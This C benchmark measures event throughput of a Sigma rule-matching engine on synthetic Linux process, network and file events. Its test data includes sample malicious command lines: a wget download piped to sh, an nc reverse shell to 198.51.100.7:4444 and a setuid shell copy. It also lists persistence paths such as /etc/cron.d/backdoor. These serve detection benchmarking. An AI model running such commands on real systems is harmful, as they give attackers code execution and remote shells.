/*
 * bench_sigma.c — single-core throughput of the Sigma matcher.
 *
 * Builds a few thousand varied process_creation, network_connection and
 * file_event records in memory (realistic paths, command lines, addresses,
 * a few of them malicious), then measures events per second through
 * sigma__match with (1) SigmaHQ's 167 Linux rules of those categories and
 * (2) 3,000 rules of the same shapes (SigmaHQ's rules and copies of them
 * with altered values), each both on
 * pre-built records and including parsing every event from its JSON line.
 *
 * Measured 2026-11-27 on the 2-core Debian 12 VM (thread CPU time, other
 * jobs running): 167 SigmaHQ rules 1.26 M ev/s matching (0.79 us/ev),
 * 0.53 M ev/s with JSON parsing; 3,000 rules 1.0 M ev/s (1.0 us/ev),
 * 0.47 M ev/s with JSON. Compile: 0.12 s and 2.3 s.
 *
 * usage: bench_sigma [RULES_DIR] (default tests/fixtures/sigmahq; run from the
 * repository root). Prints one line per measurement. Times are the thread's
 * CPU time, so other load on the machine does not count against it.
 */
#include "common/json.h"
#include "common/record_json.h"
#include "detect/sigma.h"

#include <dirent.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define NEVENTS 4096
#define NGEN	3000

/* Events are kept compact (field id → value) and built into one hot record
 * right before matching, as the sensor's decoder does: 4096 struct vrec of
 * 35 KiB each would measure cache and TLB misses on the records instead. */
struct cev {
	const struct vevent_def *def;
	uint64_t seq;
	uint8_t n;
	uint8_t f[32];
	const char *v[32];
	uint32_t len[32];
};

static struct cev *cevs;
static struct vrec *recs;
static char **lines;
static size_t *line_len;

static unsigned long long rng_state = 88172645463325252ull;

static unsigned rnd(unsigned n)
{
	rng_state ^= rng_state << 13;
	rng_state ^= rng_state >> 7;
	rng_state ^= rng_state << 17;
	return (unsigned)(rng_state % n);
}

static const char *images[] = {
    "/usr/bin/bash", "/usr/bin/ls",	 "/usr/bin/grep",   "/usr/bin/python3.11",
    "/usr/bin/curl", "/usr/bin/git",	 "/usr/sbin/sshd",  "/usr/bin/systemctl",
    "/usr/bin/cat",  "/usr/bin/sed",	 "/usr/bin/awk",    "/usr/lib/jvm/bin/java",
    "/usr/bin/node", "/usr/bin/docker",	 "/usr/bin/sudo",   "/usr/bin/find",
    "/usr/bin/tar",  "/usr/bin/wget",	 "/usr/bin/base64", "/usr/bin/nc",
    "/usr/bin/id",   "/usr/bin/crontab", "/usr/bin/chmod",  "/tmp/.x/agent",
};
static const char *parents[] = {"/usr/bin/bash",       "/usr/sbin/sshd", "/usr/lib/systemd/systemd",
				"/usr/bin/python3.11", "/usr/sbin/cron", "/usr/bin/node"};
static const char *args[] = {
    "-la /var/log",
    "--color=auto -rn TODO src/",
    "-c 'import sys; print(sys.version)'",
    "-s https://deb.debian.org/debian/dists/bookworm/InRelease -o /tmp/rel",
    "status --porcelain",
    "-D -p 22",
    "restart nginx.service",
    "/etc/hostname",
    "-i 's/foo/bar/g' config.ini",
    "'{print $1}' /var/log/syslog",
    "-jar /opt/app/server.jar --spring.profiles.active=prod",
    "/srv/app/index.js --port 8080",
    "ps --format '{{.Names}}'",
    "-u postgres psql -c 'select 1'",
    "/ -name '*.conf' -mtime -1",
    "-czf /backup/home.tgz /home",
    "-q -O- http://203.0.113.5/install.sh | sh",
    "-d /tmp/payload.b64",
    "-e /bin/sh 198.51.100.7 4444",
    "-u",
    "-l",
    "u+s /tmp/.x/bash",
    "--beacon 60",
};
static const char *dirs[] = {"/home/alice", "/root", "/var/www", "/tmp", "/srv/app", "/"};
static const char *users[] = {"alice", "root", "www-data", "postgres", "bob"};
static const char *hosts[] = {"deb.debian.org",	  "github.com",	       "api.example.com",
			      "pool.minexmr.com", "updates.vendor.io", "localhost"};
static const char *files[] = {
    "/home/alice/.cache/pip/http/a/b/c",
    "/var/log/nginx/access.log.1",
    "/tmp/tmp.XYZ123",
    "/etc/cron.d/backdoor",
    "/home/alice/.ssh/authorized_keys",
    "/var/lib/dpkg/info/x.list",
    "/usr/lib/python3/dist-packages/foo.py",
    "/srv/app/node_modules/.bin/x",
    "/etc/ld.so.preload",
    "/tmp/.x/agent",
};

static void build_events(void)
{
	char buf[512];

	recs = calloc(NEVENTS, sizeof(*recs));
	cevs = calloc(NEVENTS, sizeof(*cevs));
	lines = calloc(NEVENTS, sizeof(*lines));
	line_len = calloc(NEVENTS, sizeof(*line_len));
	if (recs == NULL || cevs == NULL || lines == NULL || line_len == NULL) {
		perror("calloc");
		exit(70);
	}
	for (int i = 0; i < NEVENTS; i++) {
		struct vrec *r = &recs[i];
		unsigned kind = rnd(10); /* 70% process, 20% network, 10% file */
		const char *img = images[rnd(sizeof(images) / sizeof(images[0]))];

		if (kind < 7) {
			const char *base = strrchr(img, '/') + 1;

			vrec__reset(r, schema__event(EV_PROCESS_CREATE));
			snprintf(buf, sizeof(buf), "%s %s", base,
				 args[rnd(sizeof(args) / sizeof(args[0]))]);
			vrec__set_str(r, VF_CommandLine, buf);
			vrec__set_str(r, VF_ParentImage, parents[rnd(6)]);
			vrec__set_str(r, VF_ParentCommandLine, "-bash");
			vrec__set_str(r, VF_CurrentDirectory, dirs[rnd(6)]);
			vrec__set_str(r, VF_OriginalFileName, "-");
			vrec__set_str(
			    r, VF_Hashes,
			    "SHA256="
			    "3b0c0d4f5e6a7b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e");
			vrec__set_str(r, VF_ParentProcessGuid,
				      "{0a1b2c3d-6567-0000-0000-000000000900}");
			vrec__set_int(r, VF_ParentProcessId, 900);
			vrec__set_int(r, VF_LogonId, 1000);
		} else if (kind < 9) {
			vrec__reset(r, schema__event(EV_NETWORK_CONNECT));
			vrec__set_str(r, VF_Protocol, "tcp");
			vrec__set_str(r, VF_Initiated, "true");
			vrec__set_str(r, VF_SourceIp, "10.0.0.5");
			vrec__set_int(r, VF_SourcePort, 40000 + rnd(20000));
			snprintf(buf, sizeof(buf), "%u.%u.%u.%u", 1 + rnd(223), rnd(256), rnd(256),
				 1 + rnd(254));
			vrec__set_str(r, VF_DestinationIp, buf);
			vrec__set_str(r, VF_DestinationHostname, hosts[rnd(6)]);
			vrec__set_int(r, VF_DestinationPort, rnd(4) ? 443 : 4444);
		} else {
			vrec__reset(r, schema__event(EV_FILE_CREATE));
			vrec__set_str(r, VF_TargetFilename,
				      files[rnd(sizeof(files) / sizeof(files[0]))]);
			vrec__set_str(r, VF_CreationUtcTime, "2026-11-27 10:00:00.000");
		}
		r->seq = (uint64_t)i + 1;
		r->computer = "bench-host";
		vrec__set_str(r, VF_UtcTime, "2026-11-27 10:00:00.000");
		vrec__set_str(r, VF_ProcessGuid, "{0a1b2c3d-6567-0000-0000-000000001234}");
		vrec__set_int(r, VF_ProcessId, 1234 + i);
		vrec__set_str(r, VF_Image, img);
		vrec__set_str(r, VF_User, users[rnd(5)]);

		struct strbuf sb;
		strbuf__init(&sb, 0);
		json__add_record(&sb, r);
		lines[i] = strdup(strbuf__cstr(&sb));
		line_len[i] = sb.len;
		strbuf__free(&sb);

		struct cev *c = &cevs[i];
		c->def = r->def;
		c->seq = r->seq;
		for (unsigned k = 0; k < r->nset && k < 32; k++) {
			enum vf_id f = (enum vf_id)r->set[k];

			c->f[c->n] = (uint8_t)f;
			c->v[c->n] = strdup(r->v[f].s);
			c->len[c->n++] = r->v[f].len;
		}
	}
	free(recs);
}

static void build(struct vrec *r, const struct cev *c)
{
	vrec__reset(r, c->def);
	r->seq = c->seq;
	r->computer = "bench-host";
	for (unsigned k = 0; k < c->n; k++)
		vrec__set_ref(r, (enum vf_id)c->f[k], c->v[k], c->len[k]);
}

/*
 * 3,000 rules of SigmaHQ's own shapes: each Linux rule of the three
 * categories, then copies of it in which every quoted detection value gets a
 * suffix (so copies hit different text, as another rule would) while
 * unquoted values stay shared, until NGEN rules exist.
 */
struct rtext {
	char *text;
	size_t len;
};

static void add_file_text(struct rtext **v, size_t *n, const char *path)
{
	FILE *f = fopen(path, "r");
	char *buf;
	long sz;

	if (f == NULL)
		return;
	fseek(f, 0, SEEK_END);
	sz = ftell(f);
	fseek(f, 0, SEEK_SET);
	buf = malloc((size_t)sz + 1);
	if (buf && fread(buf, 1, (size_t)sz, f) == (size_t)sz) {
		buf[sz] = '\0';
		if (strstr(buf, "category: process_creation") ||
		    strstr(buf, "category: file_event") ||
		    strstr(buf, "category: network_connection")) {
			*v = realloc(*v, (*n + 1) * sizeof(**v));
			(*v)[(*n)++] = (struct rtext){buf, (size_t)sz};
			buf = NULL;
		}
	}
	free(buf);
	fclose(f);
}

static void collect(struct rtext **v, size_t *n, const char *dir)
{
	struct dirent **names;
	int k = scandir(dir, &names, NULL, alphasort);

	for (int i = 0; i < k; i++) {
		char path[4096];
		size_t l = strlen(names[i]->d_name);

		snprintf(path, sizeof(path), "%s/%s", dir, names[i]->d_name);
		if (names[i]->d_name[0] != '.') {
			if (names[i]->d_type == DT_DIR)
				collect(v, n, path);
			else if (l > 4 && strcmp(names[i]->d_name + l - 4, ".yml") == 0)
				add_file_text(v, n, path);
		}
		free(names[i]);
	}
	if (k >= 0)
		free(names);
}

/* Appends rule t as copy number c to the buffer (c == 0: unchanged). */
static void mutate(struct strbuf *out, const struct rtext *t, int c, size_t idx)
{
	const char *p = t->text, *end = t->text + t->len;
	bool in_det = false;

	if (out->len)
		strbuf__adds(out, "---\n");
	while (p < end) {
		const char *nl = memchr(p, '\n', (size_t)(end - p));
		size_t ll = nl ? (size_t)(nl - p) : (size_t)(end - p);
		char line[4096];

		if (ll >= sizeof(line))
			ll = sizeof(line) - 1;
		memcpy(line, p, ll);
		line[ll] = '\0';
		p += ll + (nl ? 1 : 0);
		if (line[0] != ' ' && line[0] != '\0')
			in_det = strncmp(line, "detection:", 10) == 0;
		if (c && strncmp(line, "id: ", 4) == 0) {
			strbuf__addf(out, "id: 00000000-0000-4000-8000-%06d%06zu\n", c, idx);
			continue;
		}
		if (c && strncmp(line, "title: ", 7) == 0) {
			strbuf__addf(out, "%s #%d\n", line, c);
			continue;
		}
		if (c && in_det && !strstr(line, "condition")) {
			char *q = strrchr(line, '\'');
			char *q0 = strchr(line, '\'');

			/* addresses and networks stay valid */
			if (q && q0 && q != q0 &&
			    strspn(q0 + 1, "0123456789abcdefABCDEF:./") < (size_t)(q - q0 - 1)) {
				strbuf__add(out, line, (size_t)(q - line));
				strbuf__addf(out, "v%d'%s\n", c, q + 1);
				continue;
			}
		}
		strbuf__adds(out, line);
		strbuf__addc(out, '\n');
	}
}

static char *gen_rules(const char *dir)
{
	struct rtext *v = NULL;
	size_t n = 0, made = 0;
	struct strbuf out;

	collect(&v, &n, dir);
	if (n == 0) {
		fprintf(stderr, "bench_sigma: no rules under %s\n", dir);
		exit(66);
	}
	strbuf__init(&out, 0);
	for (int c = 0; made < NGEN; c++)
		for (size_t i = 0; i < n && made < NGEN; i++, made++)
			mutate(&out, &v[i], c, i);
	for (size_t i = 0; i < n; i++)
		free(v[i].text);
	free(v);
	return strdup(strbuf__cstr(&out));
}

static void on_report(const struct sigma_report *r, void *ctx)
{
	if (r->status == SIGMA_UNSUPPORTED || r->status == SIGMA_ERROR)
		fprintf(stderr, "%s:%d: %s: %s\n", r->file, r->line, r->title ? r->title : "",
			r->msg);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void bench(const char *name, struct sigma_engine *e)
{
	static struct vrec parsed, hot;
	unsigned long long matches = 0, n = 0;
	double t0, dt, build_dt;

	/* the cost of building the record alone, to subtract */
	t0 = now();
	do {
		for (int i = 0; i < NEVENTS; i++)
			build(&hot, &cevs[i]);
		n += NEVENTS;
		build_dt = now() - t0;
	} while (build_dt < 0.5);
	build_dt /= (double)n;

	/* warm up (thread scratch, caches) */
	for (int i = 0; i < NEVENTS; i++) {
		build(&hot, &cevs[i]);
		sigma__match(e, &hot, NULL, NULL);
	}
	n = 0;
	t0 = now();
	do {
		for (int i = 0; i < NEVENTS; i++) {
			build(&hot, &cevs[i]);
			int rc = sigma__match(e, &hot, NULL, NULL);

			if (rc > 0)
				matches += (unsigned)rc;
		}
		n += NEVENTS;
		dt = now() - t0;
	} while (dt < 2.0);
	dt -= build_dt * (double)n;
	printf("%-16s %5zu rules  match only:   %9.0f ev/s  (%.3f us/ev; %.2f alerts/ev)\n", name,
	       sigma__rule_count(e), (double)n / dt, dt * 1e6 / (double)n,
	       (double)matches / (double)n);

	n = 0;
	t0 = now();
	do {
		for (int i = 0; i < NEVENTS; i++) {
			if (record_json__parse(&parsed, lines[i], line_len[i], NULL, 0) == 0)
				sigma__match(e, &parsed, NULL, NULL);
		}
		n += NEVENTS;
		dt = now() - t0;
	} while (dt < 2.0);
	printf("%-16s %5zu rules  JSON + match: %9.0f ev/s  (%.3f us/ev)\n", name,
	       sigma__rule_count(e), (double)n / dt, dt * 1e6 / (double)n);
}

int main(int argc, char **argv)
{
	const char *dir = argc > 1 ? argv[1] : "tests/fixtures/sigmahq";
	struct sigma_engine *e;
	char *gen;
	double t0;
	int rc;

	build_events();

	e = sigma__new();
	if (e == NULL || sigma__add_path(e, dir) < 0) {
		fprintf(stderr, "bench_sigma: cannot load %s\n", dir);
		return 66;
	}
	t0 = now();
	rc = sigma__compile(e, NULL, NULL);
	if (rc < 0) {
		fprintf(stderr, "bench_sigma: compile failed\n");
		return 70;
	}
	printf("compile %zu SigmaHQ linux rules: %.1f ms\n", sigma__rule_count(e),
	       (now() - t0) * 1e3);
	bench("SigmaHQ linux", e);
	sigma__free(e);

	gen = gen_rules(dir);
	e = sigma__new();
	sigma__add_buf(e, gen, strlen(gen), "generated");
	t0 = now();
	rc = sigma__compile(e, on_report, NULL);
	if (rc != 0) {
		fprintf(stderr, "bench_sigma: %d generated rules failed\n", rc);
		return 70;
	}
	printf("compile %zu generated rules: %.1f ms\n", sigma__rule_count(e), (now() - t0) * 1e3);
	bench("generated", e);
	sigma__free(e);
	free(gen);
	return 0;
}
